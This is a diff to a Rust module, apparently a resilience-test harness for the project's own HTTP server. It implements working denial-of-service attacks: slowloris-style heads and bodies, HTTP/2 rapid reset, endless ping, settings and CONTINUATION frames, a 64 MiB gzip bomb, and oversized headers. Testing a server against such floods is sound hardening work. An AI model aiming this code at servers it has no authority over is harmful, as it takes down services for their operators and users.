@@ -2,6 +2,7 @@
 
 use std::io::Read;
 use std::net::SocketAddr;
+use std::sync::LazyLock;
 use std::time::Duration;
 
 use flate2::Compression;
@@ -22,8 +23,10 @@ pub enum Attack {
     SlowBodies,
     /// HTTP/2 streams that are opened and reset at once.
     RapidReset,
-    /// HTTP/2 heads that never end, and pings and settings without end.
+    /// HTTP/2 pings and settings without end.
     Frames,
+    /// HTTP/2 heads that never end.
+    EndlessHead,
     /// gzip that inflates a thousandfold.
     Bombs,
     /// Heads and addresses above every limit.
@@ -32,18 +35,26 @@ pub enum Attack {
     ChunkExtensions,
 }
 
-pub const ALL: [Attack; 8] = [
+pub const ALL: [Attack; 9] = [
     Attack::Silent,
     Attack::SlowHeads,
     Attack::SlowBodies,
     Attack::RapidReset,
     Attack::Frames,
+    Attack::EndlessHead,
     Attack::Bombs,
     Attack::LargeHeads,
     Attack::ChunkExtensions,
 ];
 
 const GREETING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
+/// 64 MiB of one letter.
+static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| {
+    let mut bomb = Vec::new();
+    let letters = std::io::repeat(b'a').take(64 << 20);
+    GzEncoder::new(letters, Compression::best()).read_to_end(&mut bomb).unwrap();
+    bomb
+});
 const BODY_HEAD: &str = "POST /v1/cmcd?k=demo HTTP/1.1\r\nhost: x\r\n";
 
 /// Attacks until it is dropped.
@@ -62,7 +73,7 @@ async fn one(attack: Attack, addr: SocketAddr) {
             let _ = once(attack, &mut stream).await;
         }
         // Cut, and back again a moment later.
-        sleep(Duration::from_millis(if attack == Attack::Silent { 1_000 } else { 50 })).await;
+        sleep(Duration::from_millis(if attack == Attack::Silent { 3_000 } else { 50 })).await;
     }
 }
 
@@ -83,27 +94,27 @@ async fn once(attack: Attack, stream: &mut TcpStream) -> std::io::Result<()> {
         }
         Attack::Frames => {
             stream.write_all(GREETING).await?;
-            // An opened head, and more of it for ever; on every other frame something else.
-            for _ in 0..2_000 {
-                let pings = frame(6, 0, 0, &[0; 8]).repeat(64);
-                stream.write_all(&[pings, frame(4, 0, 0, &[]).repeat(64)].concat()).await?;
+            let frames = [frame(6, 0, 0, &[0; 8]), frame(4, 0, 0, &[])].concat().repeat(64);
+            loop {
+                stream.write_all(&frames).await?;
             }
+        }
+        Attack::EndlessHead => {
+            stream.write_all(GREETING).await?;
             stream.write_all(&frame(1, 0, 1, b"\x82\x86\x84")).await?;
             loop {
                 stream.write_all(&frame(9, 0, 1, &b"\x40\x01a\x01b".repeat(1_000))).await?;
             }
         }
         Attack::Bombs => {
-            let mut bomb = Vec::new();
-            let zeros = std::io::repeat(b'a').take(64 << 20);
-            GzEncoder::new(zeros, Compression::fast()).read_to_end(&mut bomb)?;
+            let bomb = &*BOMB;
             let head = format!(
                 "{BODY_HEAD}content-encoding: gzip\r\ncontent-length: {}\r\n\r\n",
                 bomb.len()
             );
             for _ in 0..50 {
                 stream.write_all(head.as_bytes()).await?;
-                stream.write_all(&bomb).await?;
+                stream.write_all(bomb).await?;
                 answer(stream).await?;
             }
         }
